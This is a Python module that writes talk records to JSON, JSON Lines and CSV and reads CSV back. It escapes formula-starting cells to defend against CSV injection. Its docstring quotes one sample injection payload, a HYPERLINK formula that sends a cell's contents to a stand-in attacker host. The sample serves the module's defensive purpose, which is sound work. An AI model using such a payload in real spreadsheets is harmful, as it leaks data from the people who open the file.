"""Talks out of the database as files: JSON, JSON Lines and CSV, as plain functions.

Why this module looks the way it does:

* JSON, JSONL and CSV carry exactly the export schema (``Talk.to_dict``), so a file
  written here reads back into the same talks; ``read_csv`` is the inverse of ``write_csv``.
* CSV is for spreadsheets: one speaker per line as "Name (Affiliation)" and one link per line
  as "kind: url" inside their cells, instead of JSON nobody can read in a spreadsheet.
* CSV is safe to open in a spreadsheet: a cell that starts with ``=``, ``+``, ``-``, ``@``, a
  tab or a CR gets a leading single quote, as OWASP advises against CSV injection, so a title
  like ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` shows as text instead of running.
  ``read_csv`` removes exactly those quotes again (a text that itself starts with quotes before
  such a character gets one more), and JSON and JSON Lines keep the original text.
* No click here: the CLI and the Datasette plugin both call these functions.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

from parsers.talk import EXPORT_FIELDS

_NULLABLE_TEXT = ("title", "starts_at", "ends_at", "timezone", "location", "abstract", "url")
# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Keys a real talk listed by several sources adds to the export schema (crawler/db/linking.py).
GROUP_FIELDS = ("sources", "source_urls")


# --------------------------------------------------------------------------------------------
# JSON, JSON Lines, CSV
# --------------------------------------------------------------------------------------------


def write_jsonl(talks: Iterable[dict[str, Any]], out: TextIO) -> int:
    """One JSON object per line; returns the number of talks written."""
    count = 0
    for talk in talks:
        out.write(json.dumps(talk, ensure_ascii=False) + "\n")
        count += 1
    return count


def write_json(talks: Iterable[dict[str, Any]], out: TextIO) -> int:
    """One JSON array, indented, for tools that want a single document."""
    items = list(talks)
    out.write(json.dumps(items, ensure_ascii=False, indent=2) + "\n")
    return len(items)


def write_csv(talks: Iterable[dict[str, Any]], out: TextIO) -> int:
    """One row per talk, the export fields as columns, lists flattened to readable lines.

    ``out`` should be opened with ``newline=""`` (the csv module writes its own line ends).
    When a talk is listed by several sources, two more columns say so: ``sources`` and
    ``source_urls`` (one URL per line); a file of single listings has the export fields only.
    """
    items = list(talks)
    extra = [key for key in GROUP_FIELDS if any(key in talk for talk in items)]
    writer = csv.DictWriter(out, fieldnames=[*EXPORT_FIELDS, *extra])
    writer.writeheader()
    for talk in items:
        row = csv_row(talk)
        if extra:
            row["sources"] = str(talk.get("sources") or 1)
            urls = talk.get("source_urls") or [talk["url"]] if talk.get("url") else []
            row["source_urls"] = guard_cell("\n".join(urls))
        writer.writerow(row)
    return len(items)


def csv_row(talk: Mapping[str, Any]) -> dict[str, str]:
    """The talk as CSV cells: None is empty, booleans are true/false."""
    row = {key: "" if talk.get(key) is None else str(talk[key]) for key in EXPORT_FIELDS}
    row["speakers"] = "\n".join(_speaker_label(s) for s in talk.get("speakers") or ())
    row["links"] = "\n".join(f"{lk['kind']}: {lk['url']}" for lk in talk.get("links") or ())
    row["online"] = {True: "true", False: "false"}.get(talk.get("online"), "")
    return {key: guard_cell(cell) for key, cell in row.items()}


def guard_cell(cell: str) -> str:
    """The cell as a spreadsheet shows it as text: a quote before a formula's first character."""
    return "'" + cell if _needs_guard(cell) else cell


def unguard_cell(cell: str) -> str:
    """Inverse of ``guard_cell``: only a quote that ``guard_cell`` added is removed."""
    return cell[1:] if cell.startswith("'") and _needs_guard(cell[1:]) else cell


def _needs_guard(cell: str) -> bool:
    """Starts with a formula character, or with quotes before one (so unguarding is exact)."""
    return cell.lstrip("'").startswith(FORMULA_TRIGGERS)


def read_csv(text: str) -> list[dict[str, Any]]:
    """Talks from ``write_csv`` output, back in the export schema."""
    return [talk_from_csv_row(row) for row in csv.DictReader(text.splitlines(keepends=True))]


def talk_from_csv_row(row: Mapping[str, str]) -> dict[str, Any]:
    """Inverse of ``csv_row``: empty cells become None, flattened lists become lists again."""
    row = {key: unguard_cell(cell) if cell else cell for key, cell in row.items()}
    talk: dict[str, Any] = {key: row.get(key) or None for key in EXPORT_FIELDS}
    talk["speakers"] = [_parse_speaker(line) for line in _lines(row.get("speakers"))]
    talk["links"] = [_parse_link(line) for line in _lines(row.get("links"))]
    talk["online"] = {"true": True, "false": False}.get(row.get("online") or "")
    for key in _NULLABLE_TEXT:
        talk[key] = talk[key] or None
    return talk


def _speaker_label(speaker: Mapping[str, Any]) -> str:
    affiliation = speaker.get("affiliation")
    return f"{speaker['name']} ({affiliation})" if affiliation else speaker["name"]


def _parse_speaker(line: str) -> dict[str, Any]:
    """'Name (Affiliation)' -> dict; split at the first ' (' since affiliations nest brackets."""
    name, sep, rest = line.partition(" (")
    if sep and rest.endswith(")"):
        return {"name": name, "affiliation": rest[:-1]}
    return {"name": line, "affiliation": None}


def _parse_link(line: str) -> dict[str, Any]:
    kind, _, url = line.partition(": ")
    return {"kind": kind or None, "url": url}


def _lines(cell: str | None) -> list[str]:
    return [line for line in (cell or "").splitlines() if line.strip()]
